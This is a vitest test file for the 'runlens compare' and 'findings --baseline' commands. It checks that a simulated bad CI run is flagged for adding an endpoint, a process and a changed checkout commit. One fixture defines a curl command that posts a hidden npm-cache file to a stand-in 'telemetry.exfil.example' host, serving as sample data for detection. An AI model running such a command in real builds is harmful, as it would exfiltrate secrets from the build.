/**
 * `runlens compare` and `runlens findings --baseline` on generated runs imported through the real importer: a
 * baseline of two good runs against a bad run that adds one endpoint, one process and one changed action commit.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { CHECKOUT, CHECKOUT_SHA } from '../../scripts/make-run-bundles';
import { NEW_ENDPOINT_KIND, type Comparison } from '../../shared/compare';
import type { FindingOut } from '../../shared/api';
import { runCases, type RunCase } from '../support/run-cases';
import { buildCli, runlens } from './cli-helpers';

const BAD_SHA = 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8';
const CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };

let good1: RunCase, good2: RunCase, bad: RunCase, moved: RunCase;

beforeAll(async () => {
  await buildCli();
  const { runs } = await runCases({
    good1: { seed: 11 },
    good2: { seed: 12 },
    bad: { seed: 13, extraEndpoints: ['telemetry.exfil.example:443'], extraProcess: CURL, checkoutSha: BAD_SHA },
    moved: { seed: 14, testStepEndpoints: ['registry.example.org:443'] },
  });
  [good1, good2, bad, moved] = runs as [RunCase, RunCase, RunCase, RunCase];
});

function compareJson(args: string[]): Comparison & { findings: FindingOut[] } {
  const r = runlens(['compare', ...args, '--json']);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  return JSON.parse(r.stdout) as Comparison & { findings: FindingOut[] };
}

describe('runlens compare', () => {
  it('two good runs of the job: nothing new, gone or changed (pids, temp names, counts, run ids differ)', () => {
    const c = compareJson([good2.case, good1.case]);
    expect(c.endpoints).toEqual({ new: [], gone: [], changed: [] });
    expect(c.processes).toEqual({ new: [], gone: [], changed: [] });
    expect(c.steps).toEqual({ new: [], gone: [], changed: [] });
    expect(c.actions).toEqual({ new: [], gone: [], changed: [] });
    expect(c.findings).toEqual([]);
  });

  it('a bad run against a baseline of two good runs: exactly the new endpoint, the new process and the changed commit', () => {
    const c = compareJson([bad.case, good1.case, good2.case]);
    expect(c.endpoints.new.map((e) => e.endpoint)).toEqual(['telemetry.exfil.example:443']);
    expect(c.endpoints.new[0]!.calls).toBe(1);
    expect(c.endpoints.new[0]!.processes).toEqual(['/usr/bin/curl']);
    expect(c.endpoints.new[0]!.steps).toEqual(['build #4 Run npm ci']);
    expect(c.endpoints.gone).toEqual([]);
    expect(c.endpoints.changed).toEqual([]);
    expect(c.processes.changed).toEqual([]);
    expect(c.processes.new).toHaveLength(1);
    expect(c.processes.new[0]).toMatchObject({ exe: '/usr/bin/curl', args_shape: CURL.args, count: 1, steps: ['build #4 Run npm ci'] });
    expect(c.processes.gone).toEqual([]);
    expect(c.steps).toEqual({ new: [], gone: [], changed: [] });
    expect(c.actions.new).toEqual([]);
    expect(c.actions.gone).toEqual([]);
    expect(c.actions.changed).toEqual([
      { action: CHECKOUT, refs: [BAD_SHA], baseline_refs: [CHECKOUT_SHA], steps: ['build #2 Run actions/checkout', 'build #6 Post Run actions/checkout'] },
    ]);
    // The new endpoint is a finding, with the calls, process and step behind it.
    expect(c.findings).toHaveLength(1);
    expect(c.findings[0]).toMatchObject({ kind: NEW_ENDPOINT_KIND, endpoint: 'telemetry.exfil.example:443', calls: 1, steps: [{ number: 4, name: 'Run npm ci' }] });
    expect(c.findings[0]!.processes.map((p) => p.exe)).toEqual(['/usr/bin/curl']);
  });

  it('seen in any baseline is known: with the bad run among the baselines nothing of it is new, and what only it did is not "gone" from the good run', () => {
    const c = compareJson([good1.case, good2.case, bad.case]);
    expect(c.endpoints.new).toEqual([]);
    expect(c.processes.new).toEqual([]);
    expect(c.endpoints.gone).toEqual([{ endpoint: 'telemetry.exfil.example:443', baselines: 1, baseline_calls: 1 }]);
    expect(c.processes.gone.map((p) => p.exe)).toEqual(['/usr/bin/curl']);
    expect(c.actions.changed).toEqual([]);
  });

  it('is reproducible from the cases alone: the same document twice, naming every input by its hash', () => {
    const a = runlens(['compare', bad.case, good1.case, good2.case, '--json']).stdout;
    const b = runlens(['compare', bad.case, good1.case, good2.case, '--json']).stdout;
    expect(a).toBe(b);
    const c = JSON.parse(a) as Comparison;
    const manifestSha = createHash('sha256').update(readFileSync(`${bad.bundle}/manifest.json`)).digest('hex');
    expect(c.case.inputs).toHaveLength(1);
    expect(c.case.inputs[0]!.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(c.case.inputs[0]!.sha256).not.toBe(manifestSha); // a folder's digest, not one file's
    expect(c.baselines.map((x) => x.run?.run_id)).toEqual([good1.spec.seed + 19_000_000_000, good2.spec.seed + 19_000_000_000]);
  });

  it('text output names each section; findings --baseline lists the new endpoint like every other finding', () => {
    const t = runlens(['compare', bad.case, good1.case, good2.case]);
    expect(t.code).toBe(0);
    expect(t.stdout).toMatch(/New endpoints: 1\n.*\n.*\n.*telemetry\.exfil\.example:443/);
    expect(t.stdout).toContain('Changed actions: 1');
    expect(t.stdout).toContain('Gone endpoints: none');
    const f = runlens(['findings', bad.case, '--baseline', good1.case, '--baseline', good2.case, '--json']);
    expect(f.code).toBe(0);
    const findings = (JSON.parse(f.stdout) as { findings: FindingOut[] }).findings;
    const mine = findings.filter((x) => x.kind === NEW_ENDPOINT_KIND);
    expect(mine.map((x) => x.endpoint)).toEqual(['telemetry.exfil.example:443']);
    // Without a baseline: no such finding.
    const plain = JSON.parse(runlens(['findings', bad.case, '--json']).stdout) as { findings: FindingOut[] };
    expect(plain.findings.filter((x) => x.kind === NEW_ENDPOINT_KIND)).toEqual([]);
    const text = runlens(['findings', bad.case, '--baseline', good1.case]);
    expect(text.stdout).toContain(NEW_ENDPOINT_KIND);
  });

  it('a known endpoint called from a step where no baseline called it is "changed", not new', () => {
    const c = compareJson([moved.case, good1.case, good2.case]);
    expect(c.endpoints.new).toEqual([]);
    expect(c.endpoints.changed).toEqual([
      { endpoint: 'registry.example.org:443', calls: expect.any(Number), steps: ['build #5 Run npm test'], baseline_steps: ['build #4 Run npm ci'] },
    ]);
    expect(c.processes).toEqual({ new: [], gone: [], changed: [] });
    expect(c.findings).toEqual([]);
  });

  it('bad usage: no baseline is exit 2', () => {
    expect(runlens(['compare', bad.case]).code).toBe(2);
  });
});
